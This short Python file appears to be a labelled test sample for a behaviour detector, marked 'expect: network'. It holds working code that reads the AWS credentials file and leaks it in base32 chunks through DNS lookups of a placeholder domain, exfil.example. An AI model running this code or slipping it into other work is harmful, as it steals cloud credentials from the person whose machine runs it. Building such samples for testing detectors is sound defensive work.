# expect: network; DNS exfiltration of the AWS credentials file in base32 chunks via getaddrinfo
import base64
import os
import socket

raw = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
enc = base64.b32encode(raw).decode().rstrip("=").lower()
chunks = [enc[i:i + 50] for i in range(0, len(enc), 50)]
for n, chunk in enumerate(chunks):
    name = "{}.{}.{}".format(chunk, n, "d.exfil.example")
    try:
        socket.getaddrinfo(name, 53)
    except OSError:
        pass
